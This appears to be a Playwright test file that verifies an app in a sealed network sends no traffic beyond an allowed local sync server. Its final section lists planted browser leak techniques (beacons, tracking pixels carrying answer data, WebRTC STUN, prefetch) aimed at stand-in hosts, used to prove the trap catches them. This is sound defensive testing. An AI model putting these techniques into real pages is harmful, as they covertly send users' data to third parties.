import { chromium, expect, test as base, type BrowserContext, type Page } from '@playwright/test';
import { flags, newProfile, removeProfile } from '../e2e/harness/browser';
import { allowServer, press, upToDate, visitTwice } from '../e2e/harness/devices';
import { noteFault } from '../e2e/harness/faults';
import { finish, pastAnswers, startTyping } from '../e2e/harness/steps';
import { tour } from '../e2e/harness/tour';
import { noServer, startNats } from '../platform/sync/nats-server';
import { sealNetwork, whyNotSealed, type Packet, type SealedNetwork } from './sealed-network';

const whyNot = whyNotSealed();

/** Where Chromium calls by itself, whatever page it shows: these names do not even become a question to the name server. */
const ownCalls = ['accounts.google.com', 'clients*.google.com', '*.gvt1.com', '*.googleapis.com', 'www.google.com'];

const test = base.extend<{ context: BrowserContext; page: Page }, { network: SealedNetwork }>({
  network: [
    // eslint-disable-next-line no-empty-pattern -- Playwright reads the fixtures it needs from this pattern
    async ({}, use) => {
      const network = await sealNetwork();
      await use(network);
      network.close();
    },
    { scope: 'worker' },
  ],
  context: async ({ network }, use) => {
    const profile = newProfile();
    const context = await chromium.launchPersistentContext(profile, {
      executablePath: network.chromium,
      headless: true,
      // In a namespace of its own, everybody is root.
      chromiumSandbox: false,
      args: [
        ...flags({ microphone: { hears: 'answer.wav' } }, 0).filter((flag) => !flag.startsWith('--proxy-server')),
        `--host-resolver-rules=${ownCalls.map((name) => `MAP ${name} ~NOTFOUND`).join(',')}`,
      ],
      baseURL: network.origin,
      reducedMotion: 'reduce',
      locale: 'en-GB',
    });
    context.setDefaultTimeout(20_000);
    await use(context);
    await context.close();
    removeProfile(profile);
  },
  page: async ({ context }, use) => use(context.pages()[0] ?? (await context.newPage())),
});

test.describe.configure({ mode: 'default' });
test.skip(whyNot !== null, whyNot ?? '');

test('a candidate who tries every screen sends not one packet to anybody', async ({ page, network }) => {
  test.setTimeout(300_000);
  const before = network.strangers.length;
  let stops = 0;
  await tour(page, async () => {
    stops += 1;
  });
  expect(stops).toBeGreaterThan(20);
  // What a closing browser may still want to say.
  await page.context().close();
  await new Promise((later) => setTimeout(later, 1000));
  expect(network.strangers.slice(before)).toEqual([]);
});

test('with several devices switched on, the one address that was allowed hears of it, and nobody else', async ({
  page,
  network,
}) => {
  test.skip(noServer, 'There is no nats-server.');
  test.setTimeout(120_000);
  const server = await startNats({ through: network.inside });
  try {
    const { port } = new URL(server.to.address);
    const before = network.strangers.length;
    await visitTwice(page);
    await allowServer(page, server, 'seventeen zebras at noon');
    await press(page, 'Test the connection');
    await press(page, 'Switch on');
    await upToDate(page);
    await startTyping(page);
    await page.getByRole('textbox', { name: 'Your answer' }).fill('I kept both lists of zebras.');
    await finish(page);
    await page.goto('/#/settings/devices');
    await upToDate(page);
    const heard = network.strangers.slice(before);
    const toServer = heard.filter(({ what, to }) => what === 'TCP' && to === `127.0.0.1 ${port}`);
    expect(toServer.length).toBeGreaterThan(5);
    // What is not to the server is its replies, which go back to where the calls came from.
    expect(heard.filter(({ on, what }) => on !== 'lo' || what !== 'TCP')).toEqual([]);
    expect(heard.filter(({ text }) => text.includes('zebras') || text.includes('seventeen'))).toEqual([]);

    await press(page, 'Switch off …');
    await press(page, 'Delete it on the server too');
    await expect(page.getByText('everything on the server is deleted')).toBeVisible();
    await page.reload();
    const off = network.strangers.length;
    await page.goto('/#/history');
    await expect(pastAnswers(page)).toHaveCount(1);
    await page.context().close();
    await new Promise((later) => setTimeout(later, 1000));
    expect(network.strangers.slice(off)).toEqual([]);
  } finally {
    await server.close();
  }
});

/** Each of these is what a program would do that does not keep to itself. */
const leaks: { name: string; leak: () => void; seen: Partial<Record<keyof Packet, RegExp>> }[] = [
  {
    name: 'a request to an address',
    leak: () => void fetch('http://198.51.100.80/', { mode: 'no-cors' }),
    seen: { what: /^TCP$/, to: /^198\.51\.100\.80 80$/ },
  },
  {
    name: 'a request to a name',
    leak: () => void fetch('https://stranger.example/', { mode: 'no-cors' }),
    seen: { what: /^UDP$/, to: / 53$/, text: /stranger.example/ },
  },
  {
    name: 'a picture that counts visitors',
    leak: () => void Object.assign(new Image(), { src: 'http://198.51.100.81/pixel.gif?answer=1' }),
    seen: { what: /^TCP$/, to: /^198\.51\.100\.81 80$/ },
  },
  {
    name: 'a beacon',
    leak: () => void navigator.sendBeacon('http://198.51.100.82/', 'my answer'),
    seen: { what: /^TCP$/, to: /^198\.51\.100\.82 80$/ },
  },
  {
    name: 'a web socket',
    leak: () => void new WebSocket('ws://198.51.100.83/'),
    seen: { what: /^TCP$/, to: /^198\.51\.100\.83 80$/ },
  },
  {
    name: 'a call that asks a stranger for its own address (WebRTC, STUN)',
    leak: () => {
      const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:198.51.100.84:3478' }] });
      call.createDataChannel('leak');
      void call.createOffer().then((offer) => call.setLocalDescription(offer));
    },
    seen: { what: /^UDP$/, to: /^198\.51\.100\.84 3478$/ },
  },
  {
    name: 'a name that is only looked up',
    leak: () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'http://prefetched.example/' }),
      ),
    seen: { what: /^UDP$/, to: / 53$/, text: /prefetched.example/ },
  },
  {
    name: 'a connection that is only made ready',
    leak: () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://198.51.100.85/' }),
      ),
    seen: { what: /^TCP$/, to: /^198\.51\.100\.85 80$/ },
  },
  {
    name: 'another program on this computer',
    leak: () => void fetch('http://127.0.0.1:4181/', { mode: 'no-cors' }),
    seen: { what: /^TCP$/, to: /^127\.0\.0\.1 4181$/ },
  },
];

for (const { name, leak, seen } of leaks) {
  test(`the trap is tried: ${name} is seen`, async ({ page, network }) => {
    // A page of the same address without the app's policy, which would not let it out.
    await page.route('**/leaky', (route) => route.fulfill({ contentType: 'text/html', body: '<title>leaky</title>' }));
    await page.goto('/leaky');
    const before = network.strangers.length;
    await page.evaluate(leak);
    const matches = (packet: Packet) =>
      Object.entries(seen).every(([field, words]) => words.test(packet[field as keyof Packet]));
    await expect.poll(() => network.strangers.slice(before).filter(matches).length).toBeGreaterThan(0);
    noteFault({ fault: `planted leak, ${name} (caught)`, lostAnswers: 0, recovered: true });
  });
}
